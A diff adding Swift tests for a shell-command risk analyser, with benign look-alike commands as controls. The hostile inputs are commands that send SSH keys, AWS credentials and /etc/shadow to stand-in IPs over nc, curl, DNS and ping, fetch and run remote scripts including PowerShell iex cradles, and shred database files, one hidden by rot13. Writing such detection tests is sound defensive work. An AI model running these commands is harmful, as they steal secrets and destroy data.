@@ -154,6 +154,66 @@ import Testing
         #expect(try !Self.analyse("rm -rf \"$HOME/.cache/thumbnails\"").techniques.contains("T1485"))
     }
 
+    /// Commands run through another program's options, settings, containers, interpreters or
+    /// .NET, and data carried out a piece at a time.
+    static let carried: [(String, ShellDialect, String)] = [
+        ("docker run --rm -v /root:/r busybox sh -c 'tar c /r/.ssh | nc 198.51.100.61 7000'", .sh, "TA0010"),
+        ("podman exec db sh -c 'pg_dumpall | curl -T - https://198.51.100.62/in'", .sh, "TA0010"),
+        ("nvim --headless -c ':lua os.execute(\"curl -s https://198.51.100.63/p | bash\")' -c q", .sh, "TA0011"),
+        ("vi -c ':!bash'", .sh, "TA0002"),
+        ("screen -dm bash -c 'sleep 600; curl -fsS https://198.51.100.64/j | sh'", .sh, "TA0011"),
+        ("printf 'wget -qO- https://198.51.100.65/i | sh\\n' | xargs -I@ sh -c '@'", .sh, "TA0011"),
+        ("echo 'fuerq -h /ine/yvo/zlfdy/*' | tr 'a-z' 'n-za-m' | bash", .sh, "TA0040"),
+        ("pip3 install http://198.51.100.66/wheels/boto4-1.0.tar.gz", .sh, "TA0011"),
+        ("python3 -c \"import subprocess; subprocess.call('sh'+'red -u '+'/var/lib/pgsql/data/base/1/1259', shell=True)\"", .sh, "TA0040"),
+        ("python3 -c \"import urllib.request; urllib.request.urlopen('http://198.51.100.67/c', data=open('/home/deploy/.aws/credentials','rb').read())\"", .sh, "TA0010"),
+        ("ruby -rnet/http -e 'Net::HTTP.post(URI(\"https://198.51.100.68/k\"), File.read(\"/root/.ssh/id_ed25519\"))'", .sh, "TA0010"),
+        ("od -An -tx1 /etc/gshadow | tr -d ' \\n' | fold -w 50 | while read p; do dig +short $p.q.exfil-test.example; done", .sh, "TA0010"),
+        ("for w in $(base64 -w 40 ~/.ssh/id_rsa); do nslookup $w.n.example.org 198.51.100.69; done", .sh, "TA0010"),
+        ("ping -c 1 -p \"$(head -c 16 /etc/shadow | xxd -p)\" 198.51.100.70", .sh, "TA0010"),
+        ("$k = [IO.File]::ReadAllText('C:\\Users\\svc\\.aws\\credentials'); Invoke-RestMethod https://198.51.100.71/u -Method Put -Body $k", .powershell, "TA0010"),
+        ("[System.Diagnostics.Process]::Start('powershell.exe', '-nop -w hidden -c \"iex (iwr https://198.51.100.72/s.ps1)\"')", .powershell, "TA0011"),
+        ("Invoke-WebRequest -Uri https://198.51.100.73/drop -Method Post -InFile C:\\Users\\svc\\.ssh\\id_rsa", .powershell, "TA0010"),
+    ]
+
+    @Test(arguments: carried.indices)
+    func commandsAndDataCarriedThroughOtherMeansAreSeen(_ i: Int) throws {
+        let (command, dialect, tactic) = Self.carried[i]
+        let a = try Self.analyse(command, dialect)
+        #expect(a.risk >= .high, "`\(command)` was \(a.risk): \(a.summary)")
+        #expect(a.tactics.contains(tactic), "`\(command)`: \(a.tactics)")
+    }
+
+    static let carriedRoutine: [(String, ShellDialect)] = [
+        ("docker exec web nginx -s reload", .sh),
+        ("docker run --rm -v \"$PWD\":/src -w /src node:20 npm test", .sh),
+        ("vim /etc/nginx/sites-available/shop.conf", .sh),
+        ("sudoedit /etc/default/billing", .sh),
+        ("eval \"$(ssh-agent -s)\"", .sh),
+        ("source <(helm completion bash)", .sh),
+        ("python3 -c \"import requests; print(requests.get('https://status.example.com/api').status_code)\"", .sh),
+        ("python3 -c \"import requests; requests.post('http://127.0.0.1:9000/-/reload')\"", .sh),
+        ("ls /var/log/shop/*.log | xargs -I{} gzip -9 {}", .sh),
+        ("dumpe2fs -h /dev/nvme0n1p2", .sh),
+        ("sudo blockdev --getsize64 /dev/sdb", .sh),
+        ("Get-Content C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex251204.log -Tail 20", .powershell),
+        ("[IO.File]::ReadAllLines('D:\\Shop\\config\\appsettings.json') | Select-String Timeout", .powershell),
+    ]
+
+    @Test(arguments: carriedRoutine.indices)
+    func theirRoutineLookAlikesAreNotHigh(_ i: Int) throws {
+        let (command, dialect) = Self.carriedRoutine[i]
+        let a = try Self.analyse(command, dialect)
+        #expect(a.risk <= .medium, "`\(command)` was \(a.risk): \(a.summary)")
+    }
+
+    @Test func rawDiskReadsStayHighForContentReaders() throws {
+        for c in ["dd if=/dev/nvme0n1 bs=1M count=100 | gzip > /tmp/d.gz", "debugfs -R 'cat /etc/shadow' /dev/sda1", "strings /dev/sda | grep -i password"] {
+            let a = try Self.analyse(c)
+            #expect(a.risk >= .high, "\(c): \(a.risk)")
+        }
+    }
+
     // MARK: - ATT&CK
 
     @Test func destructionIsImpactNotHidingTraces() throws {
